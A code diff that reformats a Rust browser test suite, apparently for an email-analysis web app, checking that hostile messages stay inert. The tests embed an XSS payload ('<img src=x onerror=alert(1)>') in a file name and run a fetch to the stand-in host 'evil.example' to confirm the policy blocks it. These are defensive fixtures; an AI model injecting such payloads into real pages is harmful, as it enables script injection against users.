@@ -14,7 +14,12 @@ const OF_CORPUS: usize = 40;
 fn messages() -> Vec<(String, Vec<u8>)> {
     let payloads = hostile::PAYLOADS.iter().enumerate();
     let mut all: Vec<(String, Vec<u8>)> = payloads
-        .map(|(number, payload)| (format!("payload {number}<img src=x onerror=alert(1)>.eml"), hostile::message(payload)))
+        .map(|(number, payload)| {
+            (
+                format!("payload {number}<img src=x onerror=alert(1)>.eml"),
+                hostile::message(payload),
+            )
+        })
         .collect();
     let Some(shared) = std::env::var_os("HDRTRACE_SHARED").map(PathBuf::from) else {
         return all;
@@ -27,7 +32,10 @@ fn messages() -> Vec<(String, Vec<u8>)> {
 
 fn files(folder: &Path, most: usize) -> Vec<(String, Vec<u8>)> {
     let found = fs::read_dir(folder).into_iter().flatten().flatten();
-    let mut paths: Vec<PathBuf> = found.map(|entry| entry.path()).filter(|path| path.is_file()).collect();
+    let mut paths: Vec<PathBuf> = found
+        .map(|entry| entry.path())
+        .filter(|path| path.is_file())
+        .collect();
     paths.sort();
     let short = paths.into_iter().filter_map(|path| {
         let bytes = fs::read(&path).ok().filter(|bytes| bytes.len() < 1 << 20)?;
@@ -42,12 +50,23 @@ fn the_watch_sees_dialogs_and_requests() {
     let site = Site::offline();
     let browser = site.browser(Look::default());
     browser.requests();
-    browser.script("fetch('/owned').catch(() => {}); fetch('http://evil.example/x').catch(() => {})", &[]);
+    browser.script(
+        "fetch('/owned').catch(() => {}); fetch('http://evil.example/x').catch(() => {})",
+        &[],
+    );
     browser.wait("return new Promise((done) => setTimeout(() => done(true), 500))");
     let requests = browser.requests();
-    assert!(requests.contains(&format!("{}/owned", site.url)), "{requests:?}");
+    assert!(
+        requests.contains(&format!("{}/owned", site.url)),
+        "{requests:?}"
+    );
     // What the policy forbids is not even asked for, and said on the console.
-    assert!(browser.console().iter().any(|line| line.contains("evil.example")));
+    assert!(
+        browser
+            .console()
+            .iter()
+            .any(|line| line.contains("evil.example"))
+    );
     browser.script("setTimeout(() => alert('owned'))", &[]);
     std::thread::sleep(std::time::Duration::from_millis(300));
     assert_eq!(browser.dialog().as_deref(), Some("owned"));
@@ -63,9 +82,16 @@ fn hostile_messages_are_inert() {
         browser.wait("return document.querySelector('#progress').hidden && document.querySelector('iframe.report, table.messages, .error')");
         if browser.script("return !document.querySelector('iframe.report')", &[]) == json!(true) {
             // Several, or none that can be read.
-            browser.script("document.querySelector('table.messages button')?.click()", &[]);
+            browser.script(
+                "document.querySelector('table.messages button')?.click()",
+                &[],
+            );
         }
-        if browser.script("return Boolean(document.querySelector('iframe.report'))", &[]) == json!(true) {
+        if browser.script(
+            "return Boolean(document.querySelector('iframe.report'))",
+            &[],
+        ) == json!(true)
+        {
             report(&browser);
         }
         inert(&site, &browser, &name);
@@ -92,12 +118,20 @@ fn hostile_messages_are_inert_without_the_script_too() {
 
 fn inert(site: &Site, browser: &Browser, name: &str) {
     assert_eq!(browser.dialog(), None, "{name}");
-    let console: Vec<String> = browser.console().into_iter().filter(|line| !line.contains("/api/v1/reports")).collect();
+    let console: Vec<String> = browser
+        .console()
+        .into_iter()
+        .filter(|line| !line.contains("/api/v1/reports"))
+        .collect();
     assert_eq!(console, [""; 0], "{name}");
     let foreign: Vec<String> = browser
         .requests()
         .into_iter()
-        .filter(|url| !["about:", "data:", "chrome://", &site.url].iter().any(|own| url.starts_with(own)))
+        .filter(|url| {
+            !["about:", "data:", "chrome://", &site.url]
+                .iter()
+                .any(|own| url.starts_with(own))
+        })
         .collect();
     assert_eq!(foreign, [""; 0], "{name}");
     let scripts = browser.script(
